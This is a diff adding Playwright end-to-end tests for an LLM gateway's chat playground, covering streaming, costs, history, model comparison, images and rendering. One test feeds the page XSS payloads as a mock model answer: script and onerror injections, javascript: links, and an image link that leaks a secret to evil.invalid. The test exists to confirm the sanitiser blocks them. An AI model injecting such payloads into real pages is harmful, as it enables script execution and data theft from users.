@@ -1,0 +1,262 @@
+import type { Page } from '@playwright/test';
+import { callsOf, expect, signIn, test } from './hub.ts';
+import { phone } from './parts.ts';
+
+const models = ['gpt-4o', 'gpt-4o-mini', 'dall-e-3', 'tts-1', 'whisper-1'];
+
+test.beforeAll(async ({ hub, upstream }) => {
+  const api = await callsOf(hub);
+  const channel = { type: 8, name: 'play', key: 'sk-play', base_url: upstream.url, models: models.join() };
+  expect(await (await api.post('/api/channel/', { data: channel })).json()).toMatchObject({ success: true });
+  await api.dispose();
+});
+
+test.beforeEach(async ({ context, hub, upstream }) => {
+  upstream.behaviour = {};
+  await signIn(context, hub);
+});
+
+const message = (page: Page) => page.getByRole('textbox', { name: 'Write a message' });
+const answers = (page: Page) => page.getByRole('article', { name: /^Answer of / });
+
+async function open(page: Page): Promise<void> {
+  await page.goto('/panel/playground');
+  await message(page).waitFor();
+  await expect(page.getByRole('combobox', { name: 'Model' })).toContainText('gpt-4o-mini');
+}
+
+async function send(page: Page, text: string): Promise<void> {
+  await message(page).fill(text);
+  await message(page).press('Enter');
+}
+
+for (const [dialect, path] of [
+  ['Chat', '/v1/chat/completions'],
+  ['Responses', '/v1/responses'],
+  ['Messages', '/v1/messages'],
+  ['Gemini', '/gemini/v1beta/models/gpt-4o-mini:streamGenerateContent?alt=sse'],
+] as const)
+  test(`a chat in the dialect ${dialect} streams, is charged, and its code is what was sent`, async ({
+    page,
+    upstream,
+  }) => {
+    await open(page);
+    await page.getByRole('radio', { name: dialect, exact: true }).check();
+    // Not only the next reply: a first try in another dialect would take it.
+    upstream.behaviour = { text: 'An **answer** with `code`.', chunkMs: 20 };
+    const sending = page.waitForRequest((request) => request.url().includes('/api/playground/'));
+    await send(page, "What's `up`?");
+    const request = await sending;
+    expect(new URL(request.url()).pathname + new URL(request.url()).search).toBe(`/api/playground${path}`);
+    await expect(answers(page).locator('strong')).toHaveText('answer');
+    await expect(page.locator('[data-answer=done]')).toContainText('$0.0000');
+
+    await page.getByRole('tab', { name: 'Code' }).click();
+    const code = page.getByRole('group', { name: 'Code' });
+    await expect(code).toContainText(`${path}'`);
+    const shown = (await code.textContent()) ?? '';
+    const [, body = ''] = /--data-raw '([^]*)'$/.exec(shown) ?? [];
+    expect(body.replaceAll(String.raw`'\''`, "'")).toBe(request.postData());
+    expect(shown).not.toMatch(/sk-\w/);
+  });
+
+test('a stream is stopped, edited, sent again, and found in the history', async ({ page, upstream }) => {
+  await open(page);
+  upstream.next({ chunks: 2000, chunkMs: 20 });
+  await send(page, 'a long story');
+  await expect(answers(page)).toContainText('Hello');
+  await page.getByRole('button', { name: 'Stop' }).click();
+  await expect(page.locator('[data-answer=stopped]')).toContainText('Stopped');
+
+  await page.getByRole('button', { name: 'Edit message' }).click();
+  await page.getByRole('textbox', { name: 'Edit message' }).fill('a short story');
+  upstream.next({ text: 'Once upon a time' });
+  await page.getByRole('button', { name: 'Send again' }).click();
+  await expect(answers(page)).toHaveCount(1);
+  await expect(answers(page)).toContainText('Once upon a time');
+
+  // Stored half a second after the last change.
+  await expect(page.locator('[data-answer=done]')).toContainText('$');
+  await page.waitForTimeout(800);
+  await page.reload();
+  await page.getByRole('button', { name: 'Conversations' }).click();
+  await page.getByRole('searchbox', { name: 'Search titles and messages' }).fill('once upon');
+  await page
+    .getByRole('dialog')
+    .getByRole('button', { name: /a long story/ })
+    .first()
+    .click();
+  await expect(answers(page)).toContainText('Once upon a time');
+});
+
+test('two models answer side by side, each with its time, speed and cost', async ({ page, upstream }) => {
+  await open(page);
+  await page.getByRole('button', { name: 'Compare models' }).click();
+  await expect(page.getByRole('combobox', { name: 'Model 2' })).toContainText('gpt-4o');
+  for (let i = 0; i < 2; i++) upstream.next({ chunks: 40, chunkMs: 10 });
+  await send(page, 'compare');
+  await expect(page.locator('[data-answer=done]')).toHaveCount(2);
+  for (const facts of await page.locator('[data-answer]').all())
+    await expect(facts).toContainText(/\d+ in.*\d+ out.*\$0\.0.*first token \d.*tokens\/s/s);
+  const [first, second] = await Promise.all((await answers(page).all()).map((each) => each.boundingBox()));
+  expect(first?.y).toBe(second?.y);
+  expect(second?.x).toBeGreaterThan((first?.x ?? 0) + (first?.width ?? 0) - 1);
+});
+
+test('a picture is sent, and one is made', async ({ page, upstream }) => {
+  await open(page);
+  const pixel = Buffer.from(
+    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
+    'base64',
+  );
+  await page
+    .getByLabel('Attach images or files')
+    .last()
+    .setInputFiles({ name: 'a.png', mimeType: 'image/png', buffer: pixel });
+  await expect(page.getByRole('img', { name: 'a.png' })).toBeVisible();
+  const sending = page.waitForRequest((request) => request.url().includes('/api/playground/'));
+  await send(page, 'What is it?');
+  expect((await sending).postData()).toContain(`data:image/png;base64,${pixel.toString('base64')}`);
+  await expect(page.locator('[data-answer=done]')).toBeVisible();
+  expect(upstream.requests.total).toBeGreaterThan(0);
+
+  await page.getByRole('combobox', { name: 'Task' }).click();
+  await page.getByRole('option', { name: 'Create images' }).click();
+  await expect(page.getByRole('combobox', { name: 'Model' })).toContainText('dall-e-3');
+  const prompt = page.getByRole('textbox', { name: 'Describe the image' });
+  await prompt.fill('a cat');
+  await prompt.press('Enter');
+  await expect(page.getByRole('img', { name: 'Image 1' })).toHaveJSProperty('naturalWidth', 1);
+});
+
+test('a refused parameter can be left out, and a refused call says what to do', async ({ page, upstream }) => {
+  await open(page);
+  await page.getByRole('textbox', { name: 'Temperature' }).fill('0.3');
+  const error = {
+    message: "Unsupported parameter: 'temperature'",
+    type: 'invalid_request_error',
+    param: 'temperature',
+  };
+  upstream.next({ status: 400, error: { error } });
+  await send(page, 'hello');
+  const again = page.waitForRequest((request) => request.url().includes('/api/playground/'));
+  await page.getByRole('button', { name: 'Retry without temperature' }).click();
+  expect((await again).postData()).not.toContain('temperature');
+  await expect(page.locator('[data-answer=done]')).toBeVisible();
+});
+
+const table = `| a | b |\n|---|---|\n${'| <img src=x onerror="hacked=1"> | [x](javascript:hacked=1) |\n'.repeat(20_000)}`;
+const zalgo = `Z${'\u0301'.repeat(5000)} `;
+/** Pieces are cut at blanks, so this one comes in one chunk. */
+const endless = 'x'.repeat(1_000_000);
+const hostile = [
+  '<script>window.hacked=1</script><img src=x onerror="window.hacked=1"><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
+  '[link](javascript:window.hacked=1) ![leak](https://evil.invalid/?q=secret) <https://evil.invalid/x>',
+  '<style>*{display:none}</style><svg onload="window.hacked=1">',
+  '$$\\href{javascript:hacked=1}{x}$$',
+  zalgo.repeat(20),
+  endless,
+  table,
+].join('\n\n');
+
+test('a hostile answer neither runs nor loads anything nor freezes the page', async ({ page, hub, upstream }) => {
+  const foreign: string[] = [];
+  page.on('request', (request) => {
+    if (!/^(?:data|blob):/.test(request.url()) && !request.url().startsWith(hub.url)) foreign.push(request.url());
+  });
+  page.on('dialog', (dialog) => {
+    foreign.push(dialog.message());
+    void dialog.dismiss();
+  });
+  await open(page);
+  await page.evaluate(() => {
+    Object.assign(globalThis, { longest: 0 });
+    new PerformanceObserver((list) => {
+      for (const { duration } of list.getEntries())
+        Object.assign(globalThis, { longest: Math.max(Reflect.get(globalThis, 'longest') as number, duration) });
+    }).observe({ type: 'longtask' });
+  });
+  upstream.next({ text: hostile });
+  await send(page, 'attack');
+  await expect(page.locator('[data-answer=done]')).toBeVisible({ timeout: 20_000 });
+  await expect(answers(page)).toContainText('window.hacked=1');
+  await message(page).fill('still here');
+  await expect(message(page)).toHaveValue('still here');
+  expect(await page.evaluate(() => Reflect.get(globalThis, 'hacked') as unknown)).toBeUndefined();
+  expect(
+    await page
+      .locator('article script, article iframe, article style, article svg[onload], article a[href^=javascript]')
+      .count(),
+  ).toBe(0);
+  expect(await page.locator('article [src*="evil"]').count()).toBe(0);
+  expect(foreign).toEqual([]);
+  expect(await page.evaluate(() => Reflect.get(globalThis, 'longest') as number)).toBeLessThan(1500);
+});
+
+test('typing stays quick while 10,000 chunks come in', async ({ page, upstream }) => {
+  test.setTimeout(90_000);
+  await open(page);
+  const chunks = Array.from({ length: 10_000 }, (_, i) => (i % 40 === 0 ? '\n\n- **point**' : ` word${i}`));
+  upstream.next({ text: chunks.join(''), chunkMs: 1 });
+  await send(page, 'write a lot');
+  await expect(answers(page)).toContainText('word1 ');
+  await page.evaluate(() => {
+    const delays: number[] = [];
+    Object.assign(globalThis, { delays });
+    // From the key to the next frame, as the user sees it.
+    addEventListener('keydown', ({ timeStamp }) =>
+      requestAnimationFrame(() => setTimeout(() => delays.push(performance.now() - timeStamp))),
+    );
+  });
+  const running = page.locator('[data-answer=running]');
+  for (let i = 0; i < 40 && (await running.count()) > 0; i++)
+    await message(page).pressSequentially('while it answers ', { delay: 20 });
+  await expect(page.locator('[data-answer=done]')).toBeVisible({ timeout: 30_000 });
+  await expect(answers(page)).toContainText('word9999');
+  const delays = await page.evaluate(() => (Reflect.get(globalThis, 'delays') as number[]).toSorted((a, b) => a - b));
+  expect(delays.length).toBeGreaterThan(100);
+  // The median and nearly all keys: a shared machine delays single ones.
+  expect(delays[Math.floor(delays.length / 2)]).toBeLessThan(50);
+  expect(delays[Math.floor(delays.length * 0.9)]).toBeLessThan(120);
+});
+
+test('code, tables and formulas are drawn, by parts that load with the first answer only', async ({
+  page,
+  upstream,
+}) => {
+  const heavy = () =>
+    page.evaluate(() =>
+      performance
+        .getEntriesByType('resource')
+        .map(({ name }) => /(markdown-block|highlighted-code|formula)/.exec(name)?.[1])
+        .filter((name) => name !== undefined)
+        .toSorted(),
+    );
+  await open(page);
+  expect(await heavy()).toEqual([]);
+  upstream.next({ text: '| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nconst x = 1;\n```\n\nSo $$x^2$$ is it.' });
+  await send(page, 'draw');
+  const answer = answers(page);
+  await expect(answer.locator('td')).toHaveText(['1', '2']);
+  await expect(answer.locator('pre code span').first()).toHaveText('const');
+  await expect(answer.locator('math msup')).toHaveCount(1);
+  expect([...new Set(await heavy())]).toEqual(['formula', 'highlighted-code', 'markdown-block']);
+});
+
+test('the public page is the same for users, and leads others to sign in', async ({ page, browser, hub, upstream }) => {
+  await page.goto('/');
+  await page.getByRole('link', { name: 'Playground' }).click();
+  await message(page).waitFor();
+  await page.setViewportSize(phone);
+  upstream.next({ text: 'from the phone' });
+  await send(page, 'hello');
+  await expect(answers(page)).toContainText('from the phone');
+  await page.getByRole('button', { name: 'Settings' }).click();
+  await expect(page.getByRole('dialog').getByRole('combobox', { name: 'Task' })).toBeVisible();
+
+  const stranger = await browser.newPage({ baseURL: hub.url });
+  await stranger.goto('/playground');
+  await expect(stranger.getByRole('link', { name: 'Playground' })).toHaveCount(0);
+  await expect(stranger).toHaveURL(/\/login\?redirect=%2Fplayground/);
+  await stranger.close();
+});
